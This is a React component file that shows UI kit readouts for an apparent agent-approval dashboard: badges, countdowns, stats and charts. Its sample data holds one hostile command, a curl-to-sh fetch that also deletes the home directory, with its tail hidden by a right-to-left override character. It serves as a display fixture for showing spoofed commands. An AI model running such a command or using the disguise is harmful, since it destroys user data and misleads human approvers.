import { useState } from 'react';
import { ActionText } from '../../ui/action-text';
import { Badge } from '../../ui/badge';
import { BarChart } from '../../ui/bar-chart';
import { Card } from '../../ui/card';
import { CopyBlock } from '../../ui/copy-block';
import { CopyId } from '../../ui/copy-id';
import { Countdown } from '../../ui/countdown';
import { DefinitionList } from '../../ui/definition-list';
import { Sparkline } from '../../ui/sparkline';
import { Stat } from '../../ui/stat';
import { StatusDot } from '../../ui/status-dot';
import { Time } from '../../ui/time';
import { UntrustedQuote } from '../../ui/untrusted-quote';

const segments = [
  { text: 'curl -fsSL https://example.test/install.sh | sh -c "rm -rf ~/' },
  { text: '\u202e', name: 'U+202E RIGHT-TO-LEFT OVERRIDE' },
  { text: 'gpj.photo" && echo done' },
];
const perHour = [3, 5, 2, 0, 0, 1, 4, 9, 12, 8, 7, 11, 6, 5, 9, 14, 10, 4, 3, 2, 2, 1, 0, 3];

export function KitReadouts() {
  const [start] = useState(() => Date.now());
  const iso = (offsetMs: number) => new Date(start + offsetMs).toISOString();
  return (
    <Card title="Readouts">
      <div className="grid gap-6">
        <KitMarks />
        <ActionText label="Command" segments={segments} />
        <ActionText label="Long command" segments={[{ text: `echo ${'ab '.repeat(600)}` }]} foldAfter={300} />
        <UntrustedQuote text="I need to clean the cache so that the build passes." from="the agent" />
        <div className="grid max-w-70 gap-3">
          <Countdown from={iso(-60_000)} until={iso(240_000)} after="until denied" />
          <Countdown from={iso(-240_000)} until={iso(30_000)} after="until denied" />
        </div>
        <DefinitionList
          items={[
            { label: 'Asked', value: <Time at={iso(-190_000)} /> },
            {
              label: 'Digest',
              value: (
                <CopyId
                  id="9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08"
                  shown="9f86d081884c7d65…"
                />
              ),
            },
            { label: 'Host', value: 'build-host-3' },
          ]}
        />
        <CopyBlock label="Pairing command" prompt text="openclaw devices approve 4a1f-22c9" />
        <KitFigures />
      </div>
    </Card>
  );
}

function KitMarks() {
  return (
    <div className="flex flex-wrap items-center gap-3">
      <Badge>Neutral</Badge>
      <Badge tone="amber" icon="hourglass">
        Waiting
      </Badge>
      <Badge tone="red" icon="alert">
        Critical
      </Badge>
      <Badge tone="green" icon="check">
        Allowed
      </Badge>
      <Badge tone="blue" icon="info">
        Note
      </Badge>
      <StatusDot tone="green">Connected</StatusDot>
      <StatusDot tone="neutral" pulsing>
        Connecting
      </StatusDot>
      <StatusDot tone="red">Refused</StatusDot>
      <Sparkline title="Requests per hour" values={perHour} />
    </div>
  );
}

function KitFigures() {
  return (
    <>
      <div className="grid gap-4 sm:grid-cols-3">
        <Stat label="Waiting" value="3" note="Oldest 2 min" to="/ui-kit" />
        <Stat label="Median wait" value="41 s" note="Last 24 hours" />
        <Stat label="Agents online" value="12 of 14" />
      </div>
      <BarChart
        title="Requests asked per hour, last 24 hours"
        unit="requests"
        points={perHour.map((value, hour) => ({ label: `${String(hour).padStart(2, '0')}:00`, value }))}
        axis={['24 h ago', '12 h ago', 'now']}
      />
    </>
  );
}
